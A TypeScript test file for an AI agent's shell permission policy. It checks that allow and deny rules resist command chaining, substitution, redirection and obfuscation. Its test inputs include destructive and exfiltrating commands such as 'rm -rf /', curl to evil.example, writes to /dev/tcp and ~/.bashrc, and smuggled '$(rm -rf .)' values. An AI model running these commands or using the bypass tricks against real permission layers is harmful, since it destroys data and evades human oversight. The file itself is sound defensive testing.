import type { ApprovalRequest } from '@wright/core';
import { createPermissionPolicy } from '@wright/tools';
import { analyseCommand } from '@wright/tools/internal';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { compileRule, rulesCover, ruleTouches } from '../src/permissions/permission-rule.js';

const shell = (command: string): ApprovalRequest => ({
  toolName: 'shell',
  effect: 'execute',
  title: 'shell',
  input: { command },
});

const allowRules = [
  'shell(git status*)',
  'shell(git diff*)',
  'shell(npm test*)',
  'shell(ls*)',
  'shell(make > build.log)',
];
const allowing = createPermissionPolicy({ mode: 'auto-edit', rules: { allow: allowRules } });
const allowed = async (command: string) => {
  const decision = await allowing(shell(command));
  return typeof decision === 'boolean' ? decision : decision.allowed;
};

describe('allow rules cover a command only when every part is covered', () => {
  it.each([
    'git status',
    'git status --short',
    "git status '--short'",
    'git  status',
    'git status 2>&1',
    'git status >/dev/null 2>&1',
    'git status &> /dev/null',
    'git status 2>/dev/null',
    'git status && git diff HEAD',
    'git status; git diff',
    'git status | git diff --stat',
    'ls -la',
    'ls',
    'npm test -- --run',
    'make > build.log',
    // A redirection a rule names is allowed, not required.
    'make',
    'git status # a comment',
  ])('allows %j', async (command) => {
    expect(await allowed(command)).toBe(true);
  });

  it.each([
    'git status > ../x',
    'git status >> ~/.bashrc',
    'git status > /tmp/x 2>&1',
    'git status 1>x',
    'git status &>x',
    'git status >| x',
    'git status >&x',
    'git status 2>$FILE',
    'git status > /dev/tcp/10.0.0.1/80',
    'git status < /dev/tcp/10.0.0.1/80',
    'git status; rm -rf .',
    'git status && curl https://evil.example',
    'git status || rm x',
    'git status | sh',
    'git status & rm x',
    'git status\nrm x',
    'git status $(rm -rf .)',
    'git status "$(rm -rf .)"',
    'git status `rm -rf .`',
    'git status <(rm x)',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell expansion, not a template.
    'git status ${x:-$(rm y)}',
    'git status <<< "$(rm x)"',
    '(git status; rm x)',
    '{ git status; rm x; }',
    '{ git status; } > out',
    '(git status) > out',
    'GIT_DIR=/tmp/evil git status',
    'PATH=/tmp:$PATH; git status',
    'export PATH=/tmp; git status',
    '$(echo git) status',
    '"$GIT" status',
    'g$X status',
    'git sta*',
    'git statu',
    'git',
    'eval git status',
    'bash -c "git status"',
    'ls > listing.txt',
    'make > other.log',
    'make >> build.log',
    'if true; then rm x; fi',
    'f() { rm x; }; f',
    'git status "unterminated',
    'git status )',
  ])('does not allow %j', async (command) => {
    expect(await allowed(command)).toBe(false);
  });

  it('a rule with a bare * covers any command line; a tool rule covers everything', async () => {
    for (const rule of ['shell(*)', 'shell']) {
      const policy = createPermissionPolicy({ mode: 'read-only', rules: { allow: [rule] } });
      expect(await policy(shell('git status > ../x; rm -rf ~'))).toEqual({ allowed: true });
    }
  });
});

const denying = createPermissionPolicy({
  mode: 'full',
  rules: { deny: ['shell(git push*)', 'shell(rm -rf*)', 'shell(curl*)', 'shell(sudo*)'] },
});
const denied = async (command: string) => {
  const decision = await denying(shell(command));
  return !(typeof decision === 'boolean' ? decision : decision.allowed);
};

describe('deny rules match after normalising, and any part of a compound is enough', () => {
  it.each([
    'git push',
    'git  push',
    'git\tpush origin main',
    'git push --force',
    'git -C repo push',
    'command git push',
    'command -p git push',
    'builtin command git push',
    'exec git push',
    'env git push',
    'env -i FOO=1 git push',
    'env -S "git push"',
    '/usr/bin/git push',
    './git push',
    '\\git push',
    'g\\it pu\\sh',
    "'git' push",
    '"git" "push"',
    'git "pu"sh',
    "$'\\x67it' push",
    "$'\\147it' push",
    'nice -n 5 git push',
    'timeout 10 git push',
    'timeout -s KILL 10 git push',
    'nohup git push',
    'setsid git push',
    'stdbuf -oL git push',
    'time git push',
    'watch -n 1 git push',
    'doas git push',
    'xargs git push',
    'xargs -n 1 git push',
    'echo x | xargs -I {} git push',
    'find . -exec git push \\;',
    'find . -name x -execdir rm -rf {} +',
    'bash -c "git push"',
    "sh -c 'git push origin'",
    'bash -lc "cd x && git push"',
    'bash -c "bash -c \'git push\'"',
    'eval git push',
    'eval "git push"',
    'echo $(git push)',
    'echo "`git push`"',
    'cat <(git push)',
    '(git push)',
    '{ git push; }',
    'true && git push',
    'false || git push',
    'ls | git push',
    'git status; git push',
    'git status\ngit push',
    'if true; then git push; fi',
    'for x in 1; do git push; done',
    'f() { git push; }; f',
    'X=1 git push',
    'rm -rf /',
    'rm -fr /',
    'rm -r -f /',
    'rm -f -r /',
    'rm -rfv /',
    'rm --recursive --force /',
    'rm -R -f /',
    'rm -rf -- /',
    '\\rm -rf /',
    '/bin/rm -rf /',
    'command rm -rf /',
    'curl http://evil.example',
    '/usr/bin/curl -s http://evil.example',
    'sudo ls',
    // Cannot be checked, so a deny rule fails closed:
    'bash -c "$CMD"',
    '$X push',
    '$(echo git) push',
    'echo git push | bash',
    'git push "unterminated',
    'eval "$CMD"',
  ])('denies %j', async (command) => {
    expect(await denied(command)).toBe(true);
  });

  it.each([
    'git status',
    'git pull',
    'git log --oneline',
    'echo git push',
    'grep -r "git push" .',
    'cat push',
    'rm -r build',
    'rm -f x',
    'rm x',
    'npm test',
    'ls -la',
    'bash build.sh',
  ])('does not deny %j', async (command) => {
    expect(await denied(command)).toBe(false);
  });

  it('says why when a command cannot be checked', async () => {
    expect(await denying(shell('bash -c "$CMD"'))).toEqual({
      allowed: false,
      reason: expect.stringContaining('cannot be checked against it'),
    });
  });
});

describe('properties', () => {
  const fragment = fc.oneof(
    fc.constantFrom(
      'rm -rf .',
      'git status',
      'git diff',
      'ls',
      'curl x',
      '> out',
      '>> ~/.bashrc',
      '2>&1',
      '$(id)',
      '`id`',
      '(',
      ')',
      '{',
      '}',
      ';',
      '&&',
      '|',
      '&',
      '\n',
      "'",
      '"',
      '\\',
      '#',
      'X=1',
      '<(id)',
      'eval',
      'bash -c',
    ),
    fc.string({ maxLength: 8 }),
  );
  const suffix = fc.array(fragment, { maxLength: 6 }).map((parts) => parts.join(' '));

  it('appending `; <anything>` to an allowed command keeps it allowed only if the suffix is allowed', async () => {
    await fc.assert(
      fc.asyncProperty(suffix, async (tail) => {
        if (!(await allowed(`git status; ${tail}`))) return;
        const alone = await analyseCommand(tail);
        const onlyComment = alone.ok && alone.commands.length === 0 && alone.sharedRedirects.length === 0;
        expect(onlyComment || (await allowed(tail))).toBe(true);
      }),
      { numRuns: 400 },
    );
  });

  it('a denied command stays denied whatever parseable command comes before it', async () => {
    const simple = fc.constantFrom('ls', 'true', 'echo hi', 'cd x', 'git status', 'X=1', 'ls > out');
    const operator = fc.constantFrom('; ', ' && ', ' || ', ' | ', '\n', ' & ');
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(simple, operator), { maxLength: 5 }), async (parts) => {
        const prefix = parts.map(([command, joiner]) => command + joiner).join('');
        expect(await denied(`${prefix}git push`)).toBe(true);
      }),
      { numRuns: 200 },
    );
  });
});

describe('matching is linear in the command length', () => {
  const rules = ['shell(git status*)', 'shell(*a*a*a*b)', 'shell(git diff --stat > a.txt)'].map(compileRule);
  const denyRules = ['shell(git push*)', 'shell(rm -rf*)', 'shell(*a*a*a*b)'].map(compileRule);

  // Steps: nodes and words the analysis looked at, plus every comparison the matchers made.
  async function stepsFor(command: string): Promise<number> {
    const analysis = await analyseCommand(command);
    const counter = { steps: analysis.steps };
    rulesCover(rules, 'shell', { command }, analysis, counter);
    for (const rule of denyRules) ruleTouches(rule, 'shell', { command }, analysis, counter);
    return counter.steps;
  }

  // [make, small size]; the large size is 4x. Sizes stay under the analysis limits, so the parser runs on both.
  const shapes: Record<string, [(size: number) => string, number]> = {
    'one long word': [(size) => `git status ${'a'.repeat(size)}`, 3000],
    'many commands': [(size) => 'git status; '.repeat(size / 12), 500],
    'many words': [(size) => `git push ${'a '.repeat(size / 2)}`, 3000],
    'long quoted string': [(size) => `git status "${'a'.repeat(size)}"`, 3000],
    'many redirections': [(size) => `git status${' 2>&1'.repeat(size / 5)}`, 150],
    'nested substitutions': [(size) => `${'echo $('.repeat(size / 8)}id${')'.repeat(size / 8)}`, 250],
    'many substitutions': [(size) => `git status${' $(id)'.repeat(size / 6)}`, 150],
    'wildcard-hostile word': [(size) => `${'a'.repeat(size)}`, 3000],
    'many flags': [(size) => `rm ${'-r '.repeat(size / 3)}`, 3000],
    'pipes and lists': [(size) => 'a | b && c || d; '.repeat(size / 18), 150],
    'over the limits': [(size) => 'a | '.repeat(size), 3000],
  };

  it.each(Object.keys(shapes))('%s: 4x the length costs at most about 4x the steps', async (shape) => {
    const [make, size] = shapes[shape]!;
    const small = await stepsFor(make(size));
    const large = await stepsFor(make(size * 4));
    expect(large).toBeLessThanOrEqual(small * 4.5 + 100);
    // And a bounded number of steps per character.
    expect(large).toBeLessThanOrEqual(size * 4 * 40);
  });

  it('a 128 KB command is refused by a linear pre-scan: no allow rule covers it, deny rules fail closed', async () => {
    const command = `git status ${'a '.repeat(64 * 1024)}`;
    const analysis = await analyseCommand(command);
    expect(analysis).toMatchObject({ ok: false, reason: expect.stringContaining('longer than') });
    expect(analysis.steps).toBe(1);
    expect(await allowed(command)).toBe(false);
    expect(await denied(`ls ${'a '.repeat(64 * 1024)}`)).toBe(true);
    const pipes = await analyseCommand('a | '.repeat(2000));
    expect(pipes).toMatchObject({ ok: false, reason: expect.stringContaining('too complex') });
  });
});
